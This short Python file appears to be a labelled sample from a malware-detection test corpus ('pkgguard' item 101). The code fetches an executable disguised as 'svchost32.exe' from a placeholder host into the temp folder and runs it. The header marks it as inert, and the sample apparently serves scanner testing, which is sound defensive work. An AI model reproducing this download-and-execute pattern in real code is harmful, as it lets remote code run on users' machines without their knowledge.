# pkgguard corpus 101 (download-execute), modelled on [empirical]; inert, never run.
import os
import tempfile
import urllib.request

exe = os.path.join(tempfile.gettempdir(), "svchost32.exe")
urllib.request.urlretrieve("https://cdn.example/dl/svchost32.exe", exe)
os.startfile(exe)
